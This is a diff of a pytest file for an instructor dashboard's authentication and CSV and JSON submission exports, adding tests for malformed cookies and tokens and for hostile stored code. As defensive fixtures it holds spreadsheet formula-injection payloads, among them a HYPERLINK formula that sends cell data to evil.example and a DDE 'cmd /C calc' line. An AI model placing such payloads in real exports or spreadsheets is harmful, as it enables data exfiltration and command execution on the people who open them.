@@ -1,5 +1,5 @@
 """The instructor dashboard: token and cookie auth, real statistics from real submissions
-(graded by the real workers), the pages and the CSV export."""
+(graded by the real workers), the pages and the CSV and JSON exports."""
 
 from __future__ import annotations
 
@@ -7,16 +7,21 @@ import csv
 import hashlib
 import hmac
 import io
+import json
 import time
 from collections.abc import Iterator
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
 from markupsafe import escape
+from pydantic import SecretStr
+from sqlalchemy import insert
 
 from app import instructor_auth, stats
+from app.store import SubmissionRow, new_id
 from graders.settings import ROOT
 from tests.app.conftest import assert_error, client_for
 
@@ -39,6 +44,8 @@ RUN_CODE = SOLUTION + '\n# "quotes", commas;\ttabs\r\nand a CRLF\n'
 BEARER = {"Authorization": f"Bearer {TOKEN}"}
 STATS = f"/api/instructor/exercises/{GC}/stats"
 CSV_URL = "/api/instructor/submissions.csv"
+JSON_URL = "/api/instructor/submissions.json"
+LAYER_STACK = "checkpointing-layer-stack"
 
 
 def submit(client: TestClient, code: str, mode: str = "submit") -> dict:
@@ -105,7 +112,7 @@ def no_instructor_cookie(client: TestClient) -> Iterator[None]:
 def test_everything_is_404_when_no_token_is_set(tmp_path: Path) -> None:
     with client_for(tmp_path) as client:
         for headers in ({}, BEARER):
-            for url in (STATS, CSV_URL, f"{CSV_URL}?exercise={GC}"):
+            for url in (STATS, CSV_URL, f"{CSV_URL}?exercise={GC}", JSON_URL):
                 assert_error(
                     client.get(url, headers=headers), 404, "not_found", "DRILL_INSTRUCTOR_TOKEN"
                 )
@@ -136,7 +143,7 @@ def test_an_empty_token_disables_the_dashboard_too(tmp_path: Path) -> None:
 
 
 def test_the_api_needs_the_token(client: TestClient) -> None:
-    for url in (STATS, CSV_URL):
+    for url in (STATS, CSV_URL, JSON_URL):
         missing = assert_error(client.get(url), 401, "unauthorized", "Bearer")
         assert missing["message"]
         for wrong in ("Bearer nope", f"Bearer {TOKEN}x", f"Basic {TOKEN}", TOKEN, "Bearer"):
@@ -153,8 +160,10 @@ def test_unknown_exercises_and_bad_filters(client: TestClient) -> None:
     assert_error(
         client.get("/api/instructor/exercises/nope/stats", headers=BEARER), 404, "not_found"
     )
-    assert_error(client.get(f"{CSV_URL}?exercise=nope", headers=BEARER), 404, "not_found")
-    assert_error(client.get(f"{CSV_URL}?exercise=Bad!", headers=BEARER), 422, "invalid_request")
+    for url in (CSV_URL, JSON_URL):
+        assert_error(client.get(f"{url}?exercise=nope", headers=BEARER), 404, "not_found")
+        assert_error(client.get(f"{url}?exercise=Bad!", headers=BEARER), 422, "invalid_request")
+        assert_error(client.get(f"{url}?exercise=nope"), 401, "unauthorized")
     # Auth comes first: an unauthenticated caller learns nothing about the exercises.
     assert_error(client.get("/api/instructor/exercises/nope/stats"), 401, "unauthorized")
 
@@ -164,7 +173,7 @@ def test_the_openapi_schema_declares_the_bearer_scheme(client: TestClient) -> No
     schemes = schema["components"]["securitySchemes"]
     assert schemes["InstructorToken"]["type"] == "http"
     assert schemes["InstructorToken"]["scheme"].lower() == "bearer"
-    for path in ("/api/instructor/exercises/{slug}/stats", "/api/instructor/submissions.csv"):
+    for path in ("/api/instructor/exercises/{slug}/stats", CSV_URL, JSON_URL):
         assert schema["paths"][path]["get"]["security"] == [{"InstructorToken": []}]
     assert not [p for p in schema["paths"] if p.startswith("/instructor")]  # pages: no schema
 
@@ -372,6 +381,8 @@ def test_the_dashboard_shows_the_real_numbers(
     assert f"<code>{escape(SAVES_REFERENCES)}</code>" in text
     assert "<script>alert" not in text
     assert f"/api/instructor/submissions.csv?exercise={GC}" in text
+    assert f"/api/instructor/submissions.json?exercise={GC}" in text
+    assert 'href="/api/instructor/submissions.json"' in overview
     assert page.headers["cache-control"] == "no-store"
 
     missing = client.get("/instructor/exercises/nope")
@@ -473,3 +484,286 @@ def test_wrong_tokens_are_forgotten_after_the_window() -> None:
     assert attempts.wait("a") is None  # the first one is older than a minute
     attempts.failed("a")
     assert attempts.wait("a") == 10
+
+
+# --- malformed cookies and tokens: "not logged in", never a 500 ---
+
+FUTURE = str(int(time.time()) + 3600)
+MALFORMED_COOKIES = {
+    # int() of more than 4300 digits raises ValueError: this was a 500.
+    "5000-digit stamp": "9" * 5000 + "." + "0" * 64,
+    "5000 digits, no separator": "9" * 5000,
+    "13-digit stamp": "9" * 13 + "." + "0" * 64,
+    "stamp of leading zeros": "0" * 12 + FUTURE + "." + "0" * 64,
+    "no separator": FUTURE,
+    "empty": "",
+    "only a separator": ".",
+    "no stamp": "." + "0" * 64,
+    "signed stamp": "+" + FUTURE + "." + "0" * 64,
+    "negative stamp": "-1." + "0" * 64,
+    "non-ASCII digits": "١٧٠٠٠٠٠٠٠٠." + "0" * 64,
+    "superscript digits": "²³⁴." + "0" * 64,
+    "non-ASCII HMAC": FUTURE + ".é" + "\u2603" * 40,
+    "quoted": '"' + FUTURE + "." + "0" * 64 + '"',
+    "huge HMAC": FUTURE + "." + "a" * 100_000,
+    "two separators": FUTURE + ".." + "0" * 64,
+}
+
+
+def cookie_header(value: str) -> dict[bytes, bytes]:
+    """A raw Cookie header (UTF-8 bytes): the client's cookie jar only takes ASCII. Send it
+    from a ``stranger``: it replaces the jar's cookies, so the server hands out a new
+    learner cookie, which must not replace the learner of the tests above."""
+    return {b"Cookie": f"{instructor_auth.COOKIE}={value}".encode()}
+
+
+def stranger(client: TestClient) -> TestClient:
+    """Another browser on the same running service (not entered: no second start-up)."""
+    return TestClient(client.app)
+
+
+@pytest.mark.parametrize("value", MALFORMED_COOKIES.values(), ids=MALFORMED_COOKIES.keys())
+def test_a_malformed_cookie_is_not_a_login(client: TestClient, value: str) -> None:
+    # The answers a wrong cookie gets: pages send to the login form, the API says 401.
+    headers = cookie_header(value)
+    client = stranger(client)
+    for url in ("/instructor", f"/instructor/exercises/{GC}"):
+        response = client.get(url, headers=headers, follow_redirects=False)
+        assert response.status_code == 303, (url, response.text[:200])
+        assert response.headers["location"] == "/instructor/login"
+    form = client.get("/instructor/login", headers=headers, follow_redirects=False)
+    assert form.status_code == 200 and 'name="token"' in form.text
+    for url in (STATS, CSV_URL, JSON_URL):
+        assert_error(client.get(url, headers=headers), 401, "unauthorized", "Bearer")
+
+
+@pytest.mark.parametrize(
+    "authorization",
+    ["Bearer " + "9" * 5000, "Bearer " + "é\u2603" * 20, "Bearer " + "x" * 100_000, "Bearer  ."],
+    ids=["5000 digits", "non-ASCII", "huge", "spaces and a dot"],
+)
+def test_a_malformed_bearer_token_is_a_wrong_one(client: TestClient, authorization: str) -> None:
+    response = client.get(STATS, headers={b"Authorization": authorization.encode()})
+    assert_error(response, 401, "unauthorized")
+
+
+def test_a_token_that_is_not_utf8_still_answers(
+    client: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # An environment variable holding bytes that are not UTF-8 reads as lone surrogates.
+    settings = client.app.state.settings  # type: ignore[attr-defined]
+    token = TOKEN + "\udcff"
+    monkeypatch.setattr(settings, "instructor_token", SecretStr(token))
+    client = stranger(client)
+    wrong = cookie_header(FUTURE + "." + "0" * 64)
+    assert client.get("/instructor", headers=wrong, follow_redirects=False).status_code == 303
+    assert_error(client.get(STATS, headers=wrong), 401, "unauthorized")
+    right = cookie_header(instructor_auth.cookie_value(token))
+    assert client.get("/instructor", headers=right, follow_redirects=False).status_code == 200
+    assert client.get(STATS, headers=right).status_code == 200
+
+
+# --- hostile data: formulas in the CSV, exact code in JSON, huge stored messages ---
+
+# Code that a spreadsheet would read as a formula, one per dangerous first character.
+FORMULAS = {
+    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+": "+1+1",
+    "-": "-1+1\nprint('negative')",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "CR": "\r=1+1",
+}
+PLAIN_CODE = "import numpy as np  # é, \u2603\r\nx = '=not a formula'\n"
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
+    """A service of its own: the rows made here would change the counts checked above."""
+    tmp = tmp_path_factory.mktemp("instructor-hostile")
+    with client_for(tmp, instructor_token=TOKEN) as test_client:
+        yield test_client
+
+
+@pytest.fixture(scope="module")
+def formula_runs(hostile: TestClient) -> dict[str, str]:
+    """Id -> code of Runs through the learners' API: the formulas, plain code, and one
+    Run of another exercise (for the filter)."""
+    made = {}
+    for code in (*FORMULAS.values(), PLAIN_CODE):
+        made[submit(hostile, code, mode="run")["id"]] = code
+    other = hostile.post(
+        f"/api/exercises/{LAYER_STACK}/submissions",
+        json={"track": "torch", "code": "=1", "mode": "run"},
+    )
+    assert other.status_code == 200, other.text
+    made[other.json()["id"]] = "=1"
+    return made
+
+
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        *((code, "'" + code) for code in FORMULAS.values()),
+        (PLAIN_CODE, PLAIN_CODE),
+        ("", ""),
+        ("'=already quoted", "'=already quoted"),
+        (" =1", " =1"),
+        (-1, -1),  # a number is not text: a negative count stays a number
+        (2.5, 2.5),
+    ],
+    ids=[*(f"starts with {c}" for c in FORMULAS), "plain", "empty", "quoted", "space", "-1", "2.5"],
+)
+def test_spreadsheet_safe_quotes_exactly_the_formula_starts(cell: Any, safe: Any) -> None:
+    assert stats.spreadsheet_safe(cell) == safe
+
+
+def test_csv_cells_that_start_a_formula_get_a_quote(
+    hostile: TestClient, formula_runs: dict[str, str]
+) -> None:
+    response = hostile.get(CSV_URL, headers=BEARER)
+    assert response.status_code == 200
+    rows = {row["id"]: row for row in parse_csv(response.text)}
+    assert set(rows) == set(formula_runs)
+    for sub_id, code in formula_runs.items():
+        expected = code if code == PLAIN_CODE else "'" + code
+        assert rows[sub_id]["code"] == expected, (code, rows[sub_id]["code"])
+        # Every other cell: as before (nothing in them starts a formula).
+        assert rows[sub_id]["mode"] == "run" and rows[sub_id]["status"] in ("fail", "error")
+        assert rows[sub_id]["learner"] == stats.short_learner(hostile.cookies["drill_learner"])
+    for row in rows.values():
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+
+
+def test_json_export_keeps_the_exact_code(
+    hostile: TestClient, formula_runs: dict[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    response = hostile.get(JSON_URL, headers=BEARER)
+    assert response.status_code == 200
+    assert response.headers["content-type"].startswith("application/json")
+    disposition = response.headers["content-disposition"]
+    assert (
+        disposition.startswith("attachment;") and 'filename="drill-submissions.json"' in disposition
+    )
+    assert response.headers["cache-control"] == "no-store"
+    rows = json.loads(response.content)
+    assert isinstance(rows, list)
+    assert [list(row) for row in rows] == [list(stats.CSV_COLUMNS)] * len(rows)
+    by_id = {row["id"]: row for row in rows}
+    assert set(by_id) == set(formula_runs)
+    for sub_id, code in formula_runs.items():
+        assert by_id[sub_id]["code"].encode() == code.encode()  # byte for byte, no quote
+    # The same values as the CSV (which quotes only the formulas).
+    csv_rows = {row["id"]: row for row in parse_csv(hostile.get(CSV_URL, headers=BEARER).text)}
+    for sub_id, row in by_id.items():
+        as_text = {k: str(v) for k, v in row.items()}
+        as_text["code"] = stats.spreadsheet_safe(row["code"])
+        assert as_text == csv_rows[sub_id]
+
+    # The filter, as the CSV's.
+    filtered = hostile.get(f"{JSON_URL}?exercise={GC}", headers=BEARER)
+    assert f'filename="drill-submissions-{GC}.json"' in filtered.headers["content-disposition"]
+    gc_rows = json.loads(filtered.content)
+    assert {r["id"] for r in gc_rows} == {i for i, c in formula_runs.items() if c != "=1"}
+    assert {r["exercise"] for r in gc_rows} == {GC}
+    other = json.loads(hostile.get(f"{JSON_URL}?exercise={LAYER_STACK}", headers=BEARER).content)
+    assert [(r["exercise"], r["code"]) for r in other] == [(LAYER_STACK, "=1")]
+    assert_error(hostile.get(f"{JSON_URL}?exercise=nope", headers=BEARER), 404, "not_found")
+
+    # Auth as the CSV's: no token, a wrong one, the cookie.
+    assert_error(hostile.get(JSON_URL), 401, "unauthorized", "Bearer")
+    assert_error(
+        hostile.get(JSON_URL, headers={"Authorization": "Bearer nope"}), 401, "unauthorized"
+    )
+    instructor = stranger(hostile)
+    instructor.cookies.set(instructor_auth.COOKIE, cookie_for(TOKEN))
+    assert json.loads(instructor.get(JSON_URL).content) == rows
+
+    # Streamed in pages: the same array whatever the page size.
+    store = hostile.app.state.service.store  # type: ignore[attr-defined]
+    for batch in (1, 2, 3, len(rows), len(rows) + 1):
+        monkeypatch.setattr(stats, "CSV_BATCH", batch)
+        assert json.loads(stats.submissions_json(store)) == rows
+
+
+def test_the_json_export_of_an_empty_table_is_an_empty_array(tmp_path: Path) -> None:
+    with client_for(tmp_path, instructor_token=TOKEN, workers=1) as empty:
+        response = empty.get(JSON_URL, headers=BEARER)
+        assert response.status_code == 200 and json.loads(response.content) == []
+
+
+HUGE = 1_000_000
+PAGE_LIMIT = 200_000  # bytes
+
+
+def store_submit(store: Any, code: str, tests: list[dict[str, Any]], message: str = "") -> str:
+    """A failed Submit written straight to the store, whatever the grader would keep."""
+    sub_id, created = new_id(), datetime.now(UTC)
+    result = {
+        "id": sub_id,
+        "version": 1,
+        "exercise": GC,
+        "track": "numpy",
+        "mode": "submit",
+        "status": "fail" if tests else "error",
+        "message": message or f"0/{len(tests)} tests passed",
+        "passed": 0,
+        "total": len(tests),
+        "duration_ms": 1.0,
+        "tests": tests,
+        "created_at": created.isoformat(),
+    }
+    row = {
+        "id": sub_id,
+        "learner": "hostile-learner-0123456789",
+        "exercise": GC,
+        "track": "numpy",
+        "mode": "submit",
+        "exercise_version": "v",
+        "status": result["status"],
+        "passed": 0,
+        "total": len(tests),
+        "duration_ms": 1.0,
+        "created_at": created,
+        "code": code,
+        "result": result,
+    }
+    with store.engine.begin() as connection:
+        connection.execute(insert(SubmissionRow), row)
+    return sub_id
+
+
+def test_huge_stored_messages_and_code_keep_the_pages_small(hostile: TestClient) -> None:
+    store = hostile.app.state.service.store  # type: ignore[attr-defined]
+    # Two messages of a million characters that differ only past the clip: one group.
+    for tail in ("A", "B"):
+        failed = {"name": COPIES, "status": "fail", "message": "x" * HUGE + tail, "output": ""}
+        store_submit(store, "def f(): pass\n", [failed])
+    store_submit(store, "", [], message="y" * HUGE)  # a failure of the whole run
+    huge_code = "# " + "z" * HUGE + "\n"
+    store_submit(store, huge_code, [{"name": UNSORTED, "status": "fail", "message": "short"}])
+
+    instructor = stranger(hostile)
+    instructor.cookies.set(instructor_auth.COOKIE, cookie_for(TOKEN))
+    page = instructor.get(f"/instructor/exercises/{GC}")
+    assert page.status_code == 200
+    assert len(page.content) < PAGE_LIMIT, len(page.content)
+    clipped = "x" * (stats.MESSAGE_CHARS - 1) + "…"
+    assert clipped in page.text and "the JSON export has all of it" in page.text
+    assert len(instructor.get("/instructor").content) < PAGE_LIMIT
+    api = hostile.get(STATS, headers=BEARER)
+    assert api.status_code == 200 and len(api.content) < PAGE_LIMIT
+    assert api.json()["tracks"]["numpy"]["submissions"] == 4
+
+    top = stats.common_failures(store, GC, {"numpy": []})["numpy"]
+    by_test = {f["test"]: f for f in top}
+    assert by_test[COPIES]["message"] == clipped and by_test[COPIES]["count"] == 2
+    assert by_test[None]["message"] == "y" * (stats.MESSAGE_CHARS - 1) + "…"
+    assert by_test[UNSORTED]["message"] == "short"  # short messages are left whole
+    newest = stats.recent_submissions(store, GC)[0]
+    assert newest["code_clipped"] and len(newest["code"]) == stats.CODE_PREVIEW_CHARS
+    assert newest["code"] == huge_code[: stats.CODE_PREVIEW_CHARS - 1] + "…"
+    # The exports are where the whole code goes.
+    exported = json.loads(hostile.get(f"{JSON_URL}?exercise={GC}", headers=BEARER).content)
+    assert huge_code in {row["code"] for row in exported}
